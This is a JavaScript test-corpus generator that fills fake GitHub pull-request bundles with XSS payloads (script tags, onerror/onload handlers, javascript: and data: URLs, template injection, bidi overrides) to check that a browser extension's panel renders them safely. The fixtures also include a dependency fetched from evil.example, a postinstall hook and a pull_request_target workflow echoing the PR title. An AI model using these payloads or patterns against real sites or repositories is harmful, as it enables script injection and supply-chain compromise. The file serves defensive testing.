/**
 * The XSS corpus: PR bundles whose every attacker-controlled field carries a hostile payload.
 *
 * What it does: defines the payload classes (script tags, event-handler attributes,
 * `javascript:`/`data:` URLs, RTL overrides, zero-width characters, 10 KB lines, emoji,
 * template and markdown injection) and builds one bundle per class with the payload in every
 * field a PR author (or a bot, or a check app) controls: title, body, logins, branch names,
 * labels, file names, patches, commit messages and author names, check names and URLs,
 * status contexts and target URLs, review bodies, html_url fields, page facts.
 *
 * Why it matters: the panel renders all of this inside github.com. Any payload that executes
 * runs with access to the extension's frame (token in storage) or the page (the user's
 * GitHub session). Each payload that could execute sets a unique global (`__xss_<id>`) or calls
 * `alert`, so a browser test can tell precisely which one got through.
 *
 * Source: payload shapes from OWASP's XSS Filter Evasion Cheat Sheet and the Trojan Source
 * paper (CVE-2021-42574) for bidi overrides. Run `node tests/xss/corpus.mjs` to regenerate
 * `tests/xss/bundles/*.json` (committed so the Rust tests and the fake server read them
 * without node).
 */
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

export const OWNER = "xss-org";
export const REPO = "xss-repo";
/** First PR number of the corpus; bundle i has number FIRST_NUMBER + i. */
export const FIRST_NUMBER = 9001;

/** Globals a payload sets when it executes; tests assert none of them exists. */
export const PAYLOAD_GLOBALS = [];
let counter = 0;
/** A JS statement that marks execution of payload `label` (a unique global + a dialog). */
function marker(label) {
  counter += 1;
  const name = `__xss_${counter}_${label.replace(/[^a-z0-9]/gi, "_")}`;
  PAYLOAD_GLOBALS.push(name);
  return { name, code: `window.${name}=1;alert('${name}')` };
}

const TEN_KB = 10 * 1024;

/** Payload classes: each a function of the field name, so every field gets a distinct marker. */
export const PAYLOAD_CLASSES = {
  script: (field) => {
    const m = marker(`script_${field}`);
    return `<script>${m.code}</script><scr<script>ipt>${m.code}</script>`;
  },
  event_handler: (field) => {
    const a = marker(`img_${field}`);
    const b = marker(`svg_${field}`);
    const c = marker(`attr_${field}`);
    return `"><img src=x onerror="${a.code}"><svg onload="${b.code}"></svg>' autofocus onfocus='${c.code}' x='`;
  },
  urls: (field) => {
    const a = marker(`jsurl_${field}`);
    const b = marker(`dataurl_${field}`);
    return `javascript:${a.code}//https://github.com/ data:text/html;base64,${Buffer.from(`<script>${b.code}</script>`).toString("base64")} [click](javascript:${a.code}) <a href="javascript:${a.code}">x</a>`;
  },
  template: (field) => {
    const m = marker(`template_${field}`);
    return `{{constructor.constructor('${m.code}')()}} \${${m.code}} <%= ${m.code} %> </iframe></template></style><script>${m.code}</script>`;
  },
  bidi: () => "\u202Etxt.exe\u202C fix\u2066\u2069 \u200B\u200C\u200D\u2060\uFEFF zero\u200Bwidth \u061C\u200E\u200F",
  long_line: (field) => `${field}:` + "A".repeat(TEN_KB) + " " + "😀".repeat(64),
  emoji: () => "🔥🚀 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇦 é́́́́ 𝕏 \u{1F600}".repeat(8),
};

/** A unified diff patch with the payload in added, removed and context lines and in the hunk header. */
function patchWith(payload) {
  return `@@ -1,3 +1,4 @@ ${payload}\n ${payload}\n-${payload}\n+${payload}\n+<script>/* second added line */</script>`;
}

/** Branch and label text: payloads as they would appear after GitHub's own validation is bypassed. */
function bundleFor(className, number) {
  const p = PAYLOAD_CLASSES[className];
  const login = (field) => p(`login_${field}`);
  const htmlUrl = (field) => p(`url_${field}`);
  const author = login("author");
  const sha = "0123456789abcdef0123456789abcdef01234567";
  return {
    format: "prlens.bundle.v1",
    fetched_at: "2026-02-10T12:00:00Z",
    pull: {
      url: `https://api.github.com/repos/${OWNER}/${REPO}/pulls/${number}`,
      html_url: htmlUrl("pull"),
      number,
      state: "open",
      title: p("title"),
      body: p("body"),
      user: { login: author, type: "User", html_url: htmlUrl("user") },
      author_association: "FIRST_TIME_CONTRIBUTOR",
      labels: [{ name: p("label"), color: `"><script>`, description: p("label_description") }],
      requested_reviewers: [{ login: login("reviewer") }],
      head: { ref: p("head_ref"), label: p("head_label"), sha, repo: { full_name: p("head_repo"), name: REPO, owner: { login: author } } },
      base: { ref: p("base_ref"), label: p("base_label"), sha, repo: { name: REPO, full_name: `${OWNER}/${REPO}`, owner: { login: OWNER } } },
      draft: false,
      merged: false,
      mergeable_state: p("mergeable_state"),
      additions: 40,
      deletions: 8,
      changed_files: 4,
      commits: 2,
      comments: 1,
      review_comments: 0,
      created_at: "2026-02-01T10:00:00Z",
      updated_at: "2026-02-09T10:00:00Z",
    },
    files: [
      { filename: `src/${p("filename")}.rs`, status: "modified", additions: 10, deletions: 2, patch: patchWith(p("patch")), sha, blob_url: htmlUrl("blob") },
      { filename: `${p("renamed")}/package.json`, previous_filename: p("previous_filename"), status: "renamed", additions: 20, deletions: 5, patch: `@@ -1,2 +1,3 @@\n {\n+  "dependencies": {"${p("dependency")}": "git+https://evil.example/x.git"},\n+  "scripts": {"postinstall": "${p("script")}"}` },
      { filename: `.github/workflows/${p("workflow")}.yml`, status: "added", additions: 10, deletions: 0, patch: `@@ -0,0 +1,3 @@\n+on: pull_request_target\n+    - uses: ${p("action")}@main\n+      run: echo "\${{ github.event.pull_request.title }}"` },
      { filename: `assets/${p("binary")}.png`, status: "added", additions: 0, deletions: 0 },
    ],
    commits: [
      {
        sha,
        author: { login: author, type: "User", html_url: htmlUrl("commit_author") },
        committer: { login: login("committer") },
        commit: { message: p("commit_message"), author: { name: p("author_name"), email: `${p("email")}@example.com`, date: "2026-02-01T09:00:00Z" }, verification: { verified: false } },
        parents: [{ sha }],
        html_url: htmlUrl("commit"),
      },
      {
        sha: "fedcba9876543210fedcba9876543210fedcba98",
        author: null,
        committer: null,
        commit: { message: p("commit_message_2"), author: { name: p("author_name_2"), email: "ghost@example.com", date: "2026-02-02T09:00:00Z" } },
        parents: [{ sha }],
      },
    ],
    users: {
      [author]: { login: author, type: "User", name: p("user_name"), created_at: "2026-01-30T00:00:00Z", public_repos: 0, followers: 0, html_url: htmlUrl("profile"), blog: htmlUrl("blog") },
    },
    history: { [author]: { prs: 0, merged: 0 } },
    check_runs: {
      total_count: 2,
      check_runs: [
        { name: p("check_name"), status: "completed", conclusion: "failure", html_url: htmlUrl("check"), details_url: htmlUrl("details"), app: { slug: p("app_slug"), name: p("app_name") }, output: { title: p("check_output_title"), summary: p("check_summary") } },
        { name: `test ${p("check_name_2")}`, status: "completed", conclusion: "success", html_url: "https://github.com/xss-org/xss-repo/runs/1" },
      ],
    },
    status: {
      state: "failure",
      statuses: [{ context: p("status_context"), state: "failure", description: p("status_description"), target_url: htmlUrl("status_target") }],
    },
    reviews: [{ user: { login: login("review_user") }, state: "CHANGES_REQUESTED", body: p("review_body"), commit_id: sha, submitted_at: "2026-02-03T10:00:00Z", author_association: "NONE", html_url: htmlUrl("review") }],
    familiarity: { [author]: { [`src/${p("familiar_path")}.rs`]: 1 } },
    page: { title: p("page_title"), state: "open", author, base_ref: p("page_base"), head_ref: p("page_head"), viewer: login("viewer"), viewed_files: [`src/${p("viewed")}.rs`], generated_files: [p("generated")] },
    fetch_notes: [p("fetch_note")],
  };
}

/** All corpus bundles, in a fixed order: `[{name, bundle}]`. */
export function corpus() {
  counter = 0;
  PAYLOAD_GLOBALS.length = 0;
  return Object.keys(PAYLOAD_CLASSES).map((className, index) => ({
    name: `xss-${className.replace(/_/g, "-")}`,
    bundle: bundleFor(className, FIRST_NUMBER + index),
  }));
}

/** Where the generated bundles live. */
export const BUNDLE_DIR = path.join(path.dirname(fileURLToPath(import.meta.url)), "bundles");

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  fs.mkdirSync(BUNDLE_DIR, { recursive: true });
  const items = corpus();
  for (const { name, bundle } of items) {
    fs.writeFileSync(path.join(BUNDLE_DIR, `${name}.json`), JSON.stringify(bundle, null, 1) + "\n");
  }
  fs.writeFileSync(path.join(BUNDLE_DIR, "..", "globals.json"), JSON.stringify(PAYLOAD_GLOBALS, null, 1) + "\n");
  console.log(`wrote ${items.length} bundles and ${PAYLOAD_GLOBALS.length} payload globals to ${BUNDLE_DIR}`);
}
